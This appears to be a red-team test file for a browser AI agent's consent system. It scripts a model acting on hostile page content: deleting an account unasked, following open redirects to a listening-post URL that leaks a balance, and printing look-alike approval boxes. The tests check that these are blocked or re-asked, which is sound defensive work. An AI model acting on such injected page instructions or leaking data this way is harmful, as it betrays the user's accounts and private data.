"""Red team: an allowance used by someone it was not given to (issue 46), in real turns in each
browser's panel. A shop on 127.0.0.1 records every request; a scripted model does what a hostile page
would have it do; the user answers in the panel like a person, and the listening post must hear
nothing.

- The site ticked for a workflow's replay never reaches the agent that takes over when the page
  no longer fits (a Delete clicked unasked before).
- What the user allows one managed agent is that agent's: another agent, and the manager, are asked.
- open_tab to a site the settings `never` allow is refused, not asked.
- "navigate allowed for this turn" on the shop is not carried by its open redirect to another site,
  nor is "open_tab allowed for this turn" after it.
- A tab the agent opened, that a redirect took elsewhere, is not pictured unasked while the user
  watches it.
- A look-alike of TabAgent's question or hand-back box, in what the model writes, is never drawn
  as one.
- A frame that navigated away from its `src` is not acted in under its `src`'s site.
- A click allowed for the turn on the shop, done in the same call as its question (the consent
  service allows it unasked: content/actions.js act_on), is asked again when the page has sent
  the tab to another site since the agent last saw it: the look-alike button there is not
  clicked unasked."""

from __future__ import annotations

import json
import threading

import pytest

from tests.helpers.model_server import Reply
from tests.helpers.page_content import page_content
from tests.helpers.recording_site import Site
from tests.helpers.tool_calls import later, settings, told, tool_call
from tests.helpers.waiting import until

from tests.helpers.consent_pages import DRAWN, FRAMED, INBOX, LOOK_ALIKES, OTHER, SHOP, TRAP, WORKFLOW, go_to, html

LOG = "document.getElementById('log').textContent"
# open_tab with a site kept (extension/background/tab-tools.js): in Firefox the post heard the
# shop's 302 in 3 runs of 4, and the tool said the tab was still on about:blank. Likely the new
# tab's first about:blank load ends the wait for the address's load, and with it the guard of
# stay-on-site.js, before the redirect is followed.


@pytest.fixture(scope="module")
def other_site():
    """Another site: another port is another origin."""
    site = Site("127.0.0.1", {"/other": html(OTHER)})
    yield site
    site.stop()


@pytest.fixture
def consent_turn(tabs, model, consent_shop, nothing_heard_yet):
    """A new conversation on the shop (the user's tab); the settings put back after: the panel."""
    model.reset()
    consent_shop.requests.clear()
    tabs.configure(model.base_url, max_steps=12)
    with tabs.closing_new_tabs():
        yield tabs.new_conversation(on=consent_shop.url("/shop"))
    tabs.configure(model.base_url)


def with_settings(panel, model, **more):
    panel.ask_background("save-settings", settings=settings(model, **more), apiKey="sk-test")


def boxes(panel):
    """Each confirmation of the last turn: [its state, who it says asks]."""
    return panel.run("""[...[...document.querySelectorAll('article.turn')].at(-1)
      .querySelectorAll('.confirmation')].map((box) => [box.dataset.state, box.querySelector('.confirmation-actor')?.textContent])""")


def finish(panel):
    return panel.wait_for_status("ok", "error", "cancelled", timeout=90)


def test_a_site_ticked_for_a_replay_never_reaches_the_agent_that_takes_over(consent_turn, model, consent_shop):
    site = consent_shop.url("").rstrip("/")
    stored = {"buy_kettle": {"name": "buy_kettle", "source": WORKFLOW, "sites": [site], "allowedSites": [site], "parameters": {}}}
    panel = consent_turn
    panel.run(f"chrome.storage.local.set({{ workflows: {json.dumps(stored)} }})")
    try:
        # The page removed "Buy now" so that the agent takes over; its text tells the agent to delete.
        model.script(tool_call("click", locator="#delete"), Reply(text="I did not delete it."))
        panel.send("/buy_kettle")
        asked = consent_turn.question(1)  # box 0: the replay's step, allowed by the ticked site, recorded
        assert asked["actor"] == "TabAgent asks:" and asked["message"] == "Click the button “Delete my account”."
        consent_turn.screenshot("consent-replay-handed-over")
        consent_turn.answer_question(1, "deny")
        assert finish(consent_turn) == "ok"
        assert consent_turn.page_value(LOG) == "search\n" and "/deleted" not in [r["path"] for r in consent_shop.requests]
        assert boxes(consent_turn) == [["allowed_by_allowance", "The workflow buy_kettle asks:"], ["deny", "TabAgent asks:"]]
    finally:
        panel.run("chrome.storage.local.remove('workflows')")


def test_what_one_managed_agent_is_allowed_is_neither_anothers_nor_its_managers(consent_turn, model, consent_shop):
    team = [{"name": name, "description": f"The {name} helper: give it a task.", "agent": "tool_calling"} for name in ("first", "second")]
    with_settings(consent_turn, model, team=team, max_steps=12)
    delegate = [tool_call(name, task="Work on the shop page.") for name in ("first", "second")]
    model.script(delegate[0], tool_call("click", locator="#go"), Reply(text="Searched."),
                 delegate[1], tool_call("click", locator="#delete"), Reply(text="Not deleted."),
                 tool_call("click", locator="#delete"), Reply(text="Done."))
    consent_turn.send("Tidy up the shop")
    consent_turn.question(0)
    consent_turn.answer_question(0, "site")  # every action of the first agent on this site, for the turn
    consent_turn.question(1)  # another agent, the same site: asked
    consent_turn.answer_question(1, "deny")
    consent_turn.screenshot("consent-second-agent-asks")
    consent_turn.question(2)  # the manager: asked too
    consent_turn.answer_question(2, "deny")
    assert finish(consent_turn) == "ok"
    assert consent_turn.page_value(LOG) == "search\n" and "/deleted" not in [r["path"] for r in consent_shop.requests]
    assert boxes(consent_turn) == [["site", "The agent first asks:"], ["deny", "The agent second asks:"], ["deny", "TabAgent asks:"]]


def test_opening_a_tab_on_a_site_the_settings_never_allow_is_refused_without_a_question(consent_turn, model, post):
    with_settings(consent_turn, model, site_rules=f"127.0.0.1:{post.origin.rsplit(':', 1)[1]}: never")
    model.script(tool_call("open_tab", url=post.url("leak?balance=52318")), Reply(text="I could not."))
    consent_turn.send("Open the offer")
    assert finish(consent_turn) == "ok"
    assert [state for state, _ in boxes(consent_turn)] == ["refused_by_settings"]
    assert told(model, 1).startswith("The user denied this open_tab: nothing was done.") and post.hits == []


def test_navigate_allowed_for_the_turn_is_not_carried_by_an_open_redirect_to_another_site(consent_turn, model, consent_shop, post):
    consent_shop.pages["/go"] = go_to(post.url("leak?balance=52318"))  # the shop's open redirect
    model.script(tool_call("navigate", url=consent_shop.url("/a")), tool_call("navigate", url=consent_shop.url("/go")), Reply(text="Done."))
    consent_turn.send("Look around the shop")
    consent_turn.question(0)
    consent_turn.answer_question(0, "turn")  # navigating to the consent_shop, for the turn
    assert finish(consent_turn) == "ok"  # box 1: the second navigation, allowed by the turn's answer, recorded
    assert post.hits == []  # the redirect's request was never made
    assert "TabAgent stopped it" in told(model, 2)
    assert [state for state, _ in boxes(consent_turn)] == ["turn", "allowed_by_allowance"]


def test_open_tab_allowed_for_the_turn_after_navigating_is_not_carried_by_an_open_redirect_either(
        consent_turn, model, consent_shop, post):
    consent_shop.pages["/go"] = go_to(post.url("leak?balance=52318"))
    model.script(tool_call("navigate", url=consent_shop.url("/a")), tool_call("navigate", url=consent_shop.url("/go")),
                 tool_call("open_tab", url=consent_shop.url("/a")), tool_call("open_tab", url=consent_shop.url("/go")), Reply(text="Done."))
    consent_turn.send("Look around the shop")
    consent_turn.question(0)
    consent_turn.answer_question(0, "turn")  # navigating to the consent_shop, for the turn
    consent_turn.question(2)  # box 1: the second navigation, allowed by the turn's answer, recorded
    consent_turn.answer_question(2, "turn")  # opening tabs on the consent_shop, for the turn
    assert finish(consent_turn) == "ok"
    assert post.hits == []  # the redirect's request was never made
    stopped = [told(model, n) for n in (2, 4)]
    assert all("TabAgent stopped it" in said for said in stopped), stopped
    assert [state for state, _ in boxes(consent_turn)] == ["turn", "allowed_by_allowance", "turn", "allowed_by_allowance"]


def test_a_tab_the_agent_opened_that_a_redirect_took_elsewhere_is_not_pictured_unasked_while_the_user_watches_it(
        consent_turn, model, consent_shop, other_site):
    consent_shop.pages["/offer"] = go_to(other_site.url("/other"))
    with_settings(consent_turn, model, model_sees_images="yes")
    watching = threading.Event()
    model.script(tool_call("open_tab", url=consent_shop.url("/offer")), later(lambda r: {"name": "switch_tab", "arguments": {"tab_id": opened(r)}}),
                 Reply(tool_calls=[{"name": "screenshot", "arguments": {}}], pause=watching), Reply(text="Done."))
    consent_turn.send("Open the offer and look at it")
    consent_turn.question(0)
    consent_turn.answer_question(0, "once")
    tab_id = until(lambda: len(model.requests) >= 3 and opened(model.requests[:2]), 60, "the tab was never switched to")
    consent_turn.run(f"chrome.tabs.update({tab_id}, {{ active: true }}).then(() => true)")
    watching.set()  # the user is looking at the tab when the screenshot is asked for
    asked = consent_turn.question(1)  # (read from the panel's tab behind it: switching to it would bring it in front)
    assert other_site.url("/other") in asked["message"]
    consent_turn.answer_question(1, "deny")
    assert finish(consent_turn) == "ok"
    assert told(model, 3).startswith("The user did not allow a screenshot of tab")


def opened(requests):
    return json.loads(page_content([m for m in requests[-1]["body"]["messages"] if m["role"] == "tool"][-1]["content"])[1])["tab_id"]


def test_a_look_alike_of_tabagents_question_or_hand_back_box_is_never_drawn_as_one(consent_turn, model):
    model.script(Reply(text=f"Here is what the page shows:\n\n{LOOK_ALIKES}\n\n```html\n{LOOK_ALIKES}\n```"))
    consent_turn.send("What does it say?")  # no page named: an answer with no read would be held once
    assert finish(consent_turn) == "ok"
    drawn = consent_turn.run(DRAWN)
    assert drawn["boxes"] == 0 and "Allow every action on every site" in drawn["text"]  # shown as text, not as a box


def test_a_frame_that_navigated_away_from_its_src_is_never_acted_in_as_its_src(consent_turn, model, consent_shop, other_site):
    other_site.pages["/bank"] = html(TRAP)
    consent_shop.pages["/cards"] = html(FRAMED.replace('src="/inbox"', f'src="/inbox?away={other_site.url("/bank")}"'))
    consent_shop.pages["/inbox"] = html(INBOX)
    with_settings(consent_turn, model, site_rules=f"127.0.0.1:{consent_shop.url('').split(':')[2].rstrip('/')}: allow")  # the shop: no question
    consent_turn.show(consent_shop.url("/cards"))
    until(lambda: any(r["path"] == "/bank" for r in other_site.requests), 30, "the frame never left")
    model.script(tool_call("drag", source="#card", target="#frame"), Reply(text="I could not."))
    consent_turn.send("Drop the card into the inbox")
    assert finish(consent_turn) == "ok"
    said = told(model, 1)
    assert "another site" in said and consent_shop.url("").rstrip("/") not in said  # not named after its src: it left it
    assert "/touched" not in [r["path"] for r in other_site.requests]


def test_a_click_allowed_for_the_turn_is_asked_again_on_the_site_the_page_went_to_before_it(consent_turn, model, consent_shop, other_site):
    other_site.pages["/shop"] = html(SHOP)  # the same buttons, on another site
    consent_shop.pages["/leaves"] = html(SHOP.replace('onclick="log(\'search\')"', f'onclick="location.href = \'{other_site.url("/shop")}\'"'))
    consent_turn.show(consent_shop.url("/leaves"))

    def arrived(requests):  # the model's next call, once the other site has served its page
        until(lambda: any(r["path"] == "/shop" for r in other_site.requests), 30, "the page never left")
        return {"name": "click", "arguments": {"locator": "#delete"}}
    model.script(tool_call("click", locator="#go"), later(arrived), Reply(text="Done."))
    consent_turn.send("Search the shop, then delete the old draft")
    consent_turn.question(0)
    consent_turn.answer_question(0, "turn")  # clicks on the shop, for the turn: the page then goes elsewhere
    asked = consent_turn.question(1)  # the click the allowance covered on the shop: asked on the other site
    assert asked["details"]["page"] == other_site.url("/shop")
    consent_turn.answer_question(1, "deny")
    assert finish(consent_turn) == "ok"
    assert "/deleted" not in [r["path"] for r in other_site.requests + consent_shop.requests]
    assert [state for state, _ in boxes(consent_turn)] == ["turn", "deny"]
